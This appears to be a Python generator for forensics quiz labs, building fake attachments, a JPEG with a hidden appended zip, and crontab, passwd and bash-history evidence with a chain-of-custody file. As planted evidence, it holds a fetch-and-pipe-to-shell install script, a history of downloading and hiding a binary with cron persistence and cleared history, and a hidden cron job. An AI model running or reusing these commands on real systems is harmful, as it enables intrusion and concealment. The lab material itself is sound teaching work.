"""The binary files of every forensics-basics quiz lab: ALL maps a quiz file to {lab path: bytes}."""
import gzip
import random

from formats import (ASCII, RATIONAL, SHORT, docx, dms, exif, jpeg, pdf, png, rational, zip_archive)

CASE = "/home/student/case"


def mosaic(rows: int, cols: int, seed: int, palette: list[tuple[int, int, int]]) -> list[list[tuple[int, int, int]]]:
    rng = random.Random(seed)
    return [[rng.choice(palette) for _ in range(cols)] for _ in range(rows)]


def pixels(blocks: list[list[tuple[int, int, int]]], scale: int = 4) -> list[list[tuple[int, int, int]]]:
    return [[rgb for rgb in row for _ in range(scale)] for row in blocks for _ in range(scale)]


SKY = [(96, 148, 210), (120, 170, 225), (235, 235, 240), (60, 110, 60), (200, 180, 120)]
OFFICE = [(210, 205, 195), (90, 90, 100), (40, 60, 120), (230, 230, 230)]
FACE = [(225, 190, 160), (60, 45, 40), (30, 60, 110), (240, 240, 240)]


# --- Module 1 ---------------------------------------------------------------------------------------------------

def what_is_it_really() -> dict[str, bytes]:
    folder = f"{CASE}/attachments"
    log = "".join(f"2026-03-0{d} 02:00:0{d} backup: /srv/share copied, {1200 + d * 37} files\n" for d in range(1, 8))
    return {
        f"{folder}/invoice-0312.pdf": pdf("Invoice 0312: 14 x toner cartridge",
                                          {"Title": "Invoice 0312", "Producer": "LibreOffice 7.4"}),
        f"{folder}/holiday.jpg": png(pixels(mosaic(6, 8, 11, SKY))),
        f"{folder}/scan-page2.png": png(pixels(mosaic(8, 6, 12, OFFICE))),
        f"{folder}/photo-0041.jpg": jpeg(mosaic(4, 6, 13, SKY)),
        f"{folder}/minutes.docx": docx("Minutes of the March board meeting.", "Ines Duarte", "Ines Duarte",
                                       "2026-03-02T09:00:00Z", "2026-03-02T11:30:00Z"),
        f"{folder}/setup-guide.docx": zip_archive([("setup/install.sh", b"#!/bin/sh\ncurl -s http://203.0.113.9/a | sh\n"),
                                                   ("setup/README.txt", b"Run install.sh as root.\n")]),
        f"{folder}/backup.log": gzip.compress(log.encode(), mtime=1772416800),
    }


def past_the_end() -> dict[str, bytes]:
    note = (
        "Facilities - temporary access\n"
        "Server room B2, contractor badge 7730\n"
        "door code: 6184\n"
        "valid until 2026-04-30, then ask Facilities for a new one\n"
    )
    photo = jpeg(mosaic(8, 6, 21, FACE))
    return {f"{CASE}/badge-photo.jpg": photo + zip_archive([("access.txt", note.encode())], when=(2026, 3, 9, 16, 4, 0))}


CRONTAB = """# m h  dom mon dow   command
25 6 * * * /usr/sbin/logrotate /etc/logrotate.conf
0 2 * * 0 /usr/local/bin/backup-share.sh --weekly
*/10 * * * * /usr/lib/sysstat/debian-sa1 1 1
{minute} * * * * /usr/local/lib/.sysmon/sysmon -q >/dev/null 2>&1
"""
PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
sshd:x:104:65534::/run/sshd:/usr/sbin/nologin
mlindqvist:x:1000:1000:Maja Lindqvist,,,:/home/mlindqvist:/bin/bash
backup-svc:x:1001:1001::/srv/backup:/bin/bash
"""
HISTORY = """#1773177210
cd /tmp
#1773177222
wget -q http://203.0.113.77/s.tgz
#1773177231
tar xzf s.tgz -C /usr/local/lib/ && rm s.tgz
#1773177240
mv /usr/local/lib/s /usr/local/lib/.sysmon
#1773177262
crontab /tmp/.c && rm /tmp/.c
#1773177270
history -c
"""


def which_copy_is_evidence() -> dict[str, bytes]:
    import hashlib

    exports = f"{CASE}/exports"
    acquired = CRONTAB.format(minute=43).encode()
    files = {
        f"{exports}/crontabs-root": acquired,
        # an older version found in /var/backups on the host
        f"{exports}/root-crontab.bak": CRONTAB.format(minute=13).encode(),
        # pasted into the helpdesk ticket from a screenshot: Windows line endings, one digit misread
        f"{exports}/root-crontab.txt": CRONTAB.format(minute=48).replace("\n", "\r\n").encode(),
        f"{exports}/passwd": PASSWD.encode(),
        f"{exports}/bash_history": HISTORY.encode(),
    }
    digest = {name: hashlib.sha256(files[f"{exports}/{name}"]).hexdigest()
              for name in ("passwd", "bash_history", "crontabs-root")}
    custody = f"""CHAIN OF CUSTODY - case IR-2026-031, host fs-02 (file server)

Item  Source on fs-02                    SHA-256
E-01  /etc/passwd                        {digest["passwd"]}
E-02  /root/.bash_history                {digest["bash_history"]}
E-03  /var/spool/cron/crontabs/root      {digest["crontabs-root"]}

Acquired 2026-03-11 21:40 UTC by R. Okafor: tar over SSH, every item hashed on fs-02 before transfer.

Transfers
2026-03-11 22:05 UTC  R. Okafor -> evidence share IR-2026-031 (read-only)    hashes checked: OK
2026-03-12 08:10 UTC  evidence share -> M. Lindqvist, working copies in exports/
"""
    files[f"{CASE}/custody.txt"] = custody.encode()
    return files


ALL = {
    "01-files-are-not-their-names/02-what-is-it-really.quiz.yaml": what_is_it_really(),
    "01-files-are-not-their-names/04-past-the-end.quiz.yaml": past_the_end(),
    "01-files-are-not-their-names/06-which-copy-is-evidence.quiz.yaml": which_copy_is_evidence(),
}
